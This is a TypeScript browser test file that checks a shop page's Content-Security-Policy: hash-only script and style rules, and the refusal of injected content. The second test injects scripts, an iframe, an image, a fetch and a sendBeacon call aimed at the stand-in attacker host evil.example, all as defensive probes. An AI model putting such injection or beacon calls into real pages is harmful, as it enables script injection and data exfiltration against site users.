import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { expect, test } from 'vitest'
import { chromiumPath } from '../../src/dev/chromium.mjs'
import { open, shopPage } from './browser.js'

test('the policy names the bytes of the one script and the one style, and nothing else may run or be loaded', async () => {
  const text = readFileSync(await shopPage(), 'utf8')
  const hash = (of: RegExp): string => `'sha256-${createHash('sha256').update(of.exec(text)?.[1] ?? '').digest('base64')}'`
  const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(text)?.[1]
  expect(policy).toBe(`default-src 'none'; script-src ${hash(/<script>([^]*?)<\/script>/)}; style-src ${hash(/<style>([^]*?)<\/style>/)}; base-uri 'none'; form-action 'none'`)
  expect(text.replace(/<script[^]*?<\/script>/g, '').match(/\b(src|srcset|action|style|on\w+)="/g)).toBeNull()
})

test('whatever comes into the page beside them is refused', async () => {
  const { page, offences } = await open(await shopPage())
  const refused = await page.evaluate(async () => {
    const seen: string[] = []
    addEventListener('securitypolicyviolation', event => { seen.push(event.effectiveDirective) })
    const put = (name: string, set: Record<string, string>): void => { document.body.append(Object.assign(document.createElement(name), set)) }
    put('img', { src: 'https://evil.example/a.png' })
    put('script', { textContent: 'window.owned = true' })
    put('script', { src: 'https://evil.example/a.js' })
    put('style', { textContent: 'body { display: none }' })
    put('iframe', { src: 'https://evil.example/' })
    await window.fetch('https://evil.example/').catch(() => undefined)
    navigator.sendBeacon('https://evil.example/', 'x')
    await new Promise(done => { setTimeout(done, 200) })
    return { seen: seen.toSorted(), owned: 'owned' in window, shown: getComputedStyle(document.body).display }
  })
  expect(refused.seen).toEqual(expect.arrayContaining(['connect-src', 'frame-src', 'img-src', 'script-src-elem', 'style-src-elem']))
  expect([refused.owned, refused.shown]).toEqual([false, 'block'])
  expect(offences.filter(one => one.startsWith('request') && !one.includes('evil.example'))).toEqual([])
})

test('without a browser these tests fail, and say what to do', () => {
  expect(() => chromiumPath({ PATH: '/nowhere' })).toThrow(/^No Chromium was found on the PATH: install it \(apt-get install chromium\), or name its program in the environment variable CHROMIUM\.$/)
  expect(() => chromiumPath({ PATH: '', CHROMIUM: '/nowhere/chromium' })).toThrow(/^CHROMIUM names \/nowhere\/chromium, where no file is/)
  expect(chromiumPath({ PATH: '', CHROMIUM: process.execPath })).toBe(process.execPath)
})
